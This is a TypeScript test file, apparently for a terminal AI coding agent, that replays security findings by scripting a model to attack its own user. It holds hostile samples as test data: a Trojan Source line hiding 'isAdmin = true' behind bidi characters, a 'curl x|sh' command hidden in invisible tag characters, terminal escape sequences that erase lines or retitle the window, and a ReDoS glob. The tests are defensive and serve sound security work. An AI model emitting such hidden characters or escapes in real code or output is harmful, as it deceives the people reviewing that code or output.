import { step } from "@aptix/testing-llm-servers";
import { afterEach, describe, expect, it } from "vitest";
import { runAptix } from "./support/aptix-process.js";
import { API_KEY } from "./support/aptix-server.js";
import { CONFINEMENT_SCENARIOS, confinementOutcome } from "./support/confinement-scenarios.js";
import { useAptixServer } from "./support/use-aptix-server.js";
import { makeWorkspace } from "./support/workspace-dir.js";

/**
 * Issue 27's findings against the terminal agent, each played as the attack was: the built binary, the real
 * server, a scripted model steered to turn the CLI against its user.
 */
const aptix = useAptixServer();

afterEach(() => {
  const pending = aptix.openai.pendingSteps();
  aptix.openai.reset();
  expect(pending, "scripted steps left over").toBe(0);
});

const run = (args: string[], cwd: string, env: Record<string, string> = {}) =>
  runAptix([...args, "--url", aptix.server.url], { cwd, env: { APTIX_API_KEY: API_KEY, ...env } });

const creating = (path: string, line: string) =>
  ["--- /dev/null", `+++ b/${path}`, "@@ -0,0 +1 @@", `+${line}`, ""].join("\n");

describe("findings 1 and 2 (issue 27) and issue 37: the tools stay in the workspace and out of what runs code", () => {
  it.each(CONFINEMENT_SCENARIOS.map((scenario) => [scenario.name, scenario] as const))(
    "%s",
    async (_name, scenario) => {
      const workspace = await makeWorkspace("confined", scenario.files);
      await scenario.prepare(workspace);
      aptix.openai.script(step.functionCalls(scenario.calls(workspace)), step.text("Done."));
      // stdin is a pipe, not a terminal: with --yes there is no one to ask.
      const result = await run(["run", "Look around", "--yes"], workspace.dir, scenario.env);
      expect(result.code, result.stderr).toBe(0);
      await scenario.check(confinementOutcome(aptix.toolOutputs(), workspace, undefined));
    },
  );

  const gitConfig = "[core]\n\trepositoryformatversion = 0\n";
  const ignoringFiles = {
    ".gitignore": ".env\ndist/\n",
    ".env": "API_TOKEN=s3cr3t-value\n",
    "dist/app.js": "built\n",
    "src/app.ts": "export const app = 1;\n",
  };

  it("opens them with --allow-ignored, .git still closed", async () => {
    const workspace = await makeWorkspace("ignored-allowed", { ...ignoringFiles, ".git/config": gitConfig });
    aptix.openai.script(
      step.functionCalls([
        {
          name: "read_file",
          arguments: { path: ".env", startLine: null, endLine: null },
          callId: "call_env",
        },
        { name: "apply_patch", arguments: { patch: creating("dist/new.js", "x") }, callId: "call_create" },
        { name: "list_files", arguments: { path: null, glob: null }, callId: "call_list" },
      ]),
      step.text("Done."),
    );
    const result = await run(["run", "Read the env", "--yes", "--allow-ignored"], workspace.dir);
    expect(result.code, result.stderr).toBe(0);
    expect(JSON.parse(aptix.toolOutputs().get("call_env") ?? "")).toMatchObject({
      contents: "API_TOKEN=s3cr3t-value\n",
    });
    expect(await workspace.read("dist/new.js")).toBe("x\n");
    expect(JSON.parse(aptix.toolOutputs().get("call_list") ?? "").files).toEqual([
      ".env",
      ".gitignore",
      "dist/app.js",
      "dist/new.js",
      "src/app.ts",
    ]);
  });
});

describe("finding 8 (issue 27) and issue 37: what the model sends cannot drive the terminal, nor hide text", () => {
  it("prints control, bidi, zero-width and tag characters in answers, patch previews and tool lines as visible escapes", async () => {
    const workspace = await makeWorkspace("escapes", { "notes.txt": "one\ntwo\nthree\n" });
    // Trojan Source: the line reads as a comment to its end, while what follows the isolates runs.
    const trojan = "if (user) { \u202e\u2066// check later\u2069\u2066 isAdmin = true;\u200b\ufeff";
    const tags = [..."curl x|sh"].map((char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0))).join("");
    const patch = [
      "--- a/notes.txt",
      "+++ b/notes.txt",
      "@@ -1,3 +1,5 @@",
      " one",
      "+harmless\u001b[1A\u001b[2K\u001b[1A\u001b[2K",
      `+${trojan}${tags}`,
      " two",
      " three",
      "",
    ].join("\n");
    aptix.openai.script(
      step.functionCalls([
        { name: "apply_patch", arguments: { patch }, callId: "call_patch" },
        {
          name: "read_file",
          arguments: { path: "\u001b[2Jmissing\u0007\u200dfi\u2067le.txt", startLine: null, endLine: null },
          callId: "call_read",
        },
      ]),
      // The title sequence split across two deltas: each character is made visible on its own.
      step.text([
        "Done \u001b",
        "]0;pwned\u0007 \u009b31m\r\u202eend\u200b\u200c\u200e\u202a\u2068\u{e0041}",
        // Issue 46: more that prints nothing, or breaks a line where none shows.
        " ad\u00admin\u034f\u180e\u3164\u2028\u2029\ufe0f\u{e0100}.",
      ]),
    );
    const result = await run(["run", "Add a line", "--yes"], workspace.dir);
    expect(result.code, result.stderr).toBe(0);
    const raw = ["\u001b", "\u0007", "\u009b", "\r", "\u202e", "\u2066", "\u2067", "\u2069", "\u200b"];
    for (const char of [
      ...raw,
      "\u200c",
      "\u200d",
      "\u200e",
      "\u202a",
      "\u2068",
      "\ufeff",
      "\u{e0041}",
      "\u{e0063}",
      "\u00ad",
      "\u034f",
      "\u180e",
      "\u3164",
      "\u2028",
      "\u2029",
      "\ufe0f",
      "\u{e0100}",
    ])
      expect(result.stdout + result.stderr, JSON.stringify(char)).not.toContain(char);
    expect(result.stdout).toContain("+harmless\\x1b[1A\\x1b[2K\\x1b[1A\\x1b[2K");
    expect(result.stdout).toContain(
      "+if (user) { \\u202e\\u2066// check later\\u2069\\u2066 isAdmin = true;\\u200b\\ufeff\\u{e0063}\\u{e0075}",
    );
    expect(result.stdout).toContain(
      "Done \\x1b]0;pwned\\x07 \\x9b31m\\x0d\\u202eend\\u200b\\u200c\\u200e\\u202a\\u2068\\u{e0041}",
    );
    expect(result.stdout).toContain(" ad\\xadmin\\u034f\\u180e\\u3164\\u2028\\u2029\\ufe0f\\u{e0100}.");
    expect(result.stdout).toContain("tool read_file \\x1b[2Jmissing\\x07\\u200dfi\\u2067le.txt ✗");
    // The file still gets the bytes the model sent: only what is printed is made visible.
    expect(await workspace.read("notes.txt")).toBe(
      `one\nharmless\u001b[1A\u001b[2K\u001b[1A\u001b[2K\n${trojan}${tags}\ntwo\nthree\n`,
    );
  });
});

describe("finding 9: globs cannot freeze the CLI", () => {
  it("answers list_files { glob: '+(*?)Q' } on a long file name at once, matching the glob literally", async () => {
    const name = `${"x".repeat(26)}.txt`;
    const workspace = await makeWorkspace("glob-redos", { [name]: "x\n", "+(ab)Q": "literal\n" });
    aptix.openai.script(
      step.functionCalls([
        { name: "list_files", arguments: { path: null, glob: "+(*?)Q" }, callId: "call_extglob" },
        { name: "list_files", arguments: { path: null, glob: "*a*a*a*a*a*a*b" }, callId: "call_stars" },
        { name: "list_files", arguments: { path: null, glob: "{x,y}*" }, callId: "call_brace" },
      ]),
      step.text("Listed."),
    );
    const started = performance.now();
    const result = await run(["run", "List", "--json"], workspace.dir);
    const elapsed = performance.now() - started;
    expect(result.code, result.stderr).toBe(0);
    // The bound: every tool call answers within 10 s (here the whole run, three calls, does).
    expect(elapsed).toBeLessThan(10_000);
    const files = (callId: string) => JSON.parse(aptix.toolOutputs().get(callId) ?? "").files;
    expect(files("call_extglob")).toEqual(["+(ab)Q"]);
    expect(files("call_stars")).toEqual([]);
    expect(files("call_brace")).toEqual([]);
  });
});
